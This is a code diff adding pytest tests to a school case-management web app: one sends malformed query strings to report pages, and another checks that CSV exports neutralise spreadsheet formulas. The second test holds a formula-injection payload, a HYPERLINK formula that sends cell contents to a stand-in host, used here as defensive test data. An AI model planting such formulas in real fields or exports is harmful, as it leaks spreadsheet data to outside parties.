@@ -7,6 +7,7 @@ import io
 import sqlalchemy as sa
 
 from caseflow.audit.models import AuditEvent
+from caseflow.db import now_utc
 from caseflow.extensions import db
 from tests.helpers import sign_in
 
@@ -219,3 +220,36 @@ def test_the_civil_rights_csv_from_the_command_line_matches_the_page(
     assert row["SCH_REF_INSTANCES"] == "1" and row["SCH_ARR_INSTANCES"] == "1"
     bad = app.test_cli_runner().invoke(args=["export", "civil-rights", "--district", "NOPE"])
     assert bad.exit_code != 0 and "--district" in bad.output
+
+
+def test_odd_query_strings_get_no_server_error(client, make):
+    sign_in(client, make.user("district_auditor", district_wide=True))
+    for path in (
+        "/reports/dashboard?year=%C2%B2&school_id=%C2%B2",
+        "/reports/civil-rights?year=%C2%B2",
+        "/reports/disparity?year=%C2%B2",
+        "/reports/escalations?page=%C2%B2&school_id=%C2%B2",
+        "/audit/access?page=%C2%B2",
+        "/reports/escalations?endpoint=x&_method=POST",
+    ):
+        assert client.get(path).status_code == 200, path
+    far = client.get("/reports/escalations?until=9999-12-31")
+    assert far.status_code == 422 and "2999-12-31" in far.get_data(as_text=True)
+
+
+def test_typed_text_cannot_become_a_spreadsheet_formula(client, gate_world):
+    g = gate_world
+    r = client.post(
+        "/api/v1/emergency-responses",
+        json={
+            "student_id": g.student,
+            "called_at": now_utc().isoformat(),
+            "caller": '=HYPERLINK("http://example.com/?"&A1,"x")',
+            "what_happened": "A student collapsed; 911 was called and police came with the paramedics.",
+        },
+        headers=g.h.requester,
+    )
+    assert r.status_code == 201, r.get_json()
+    sign_in(client, g.people.auditor)
+    [row] = _csv(client.get("/reports/escalations.csv?kind=emergency"))
+    assert row["requested_by"].startswith("'=HYPERLINK(")
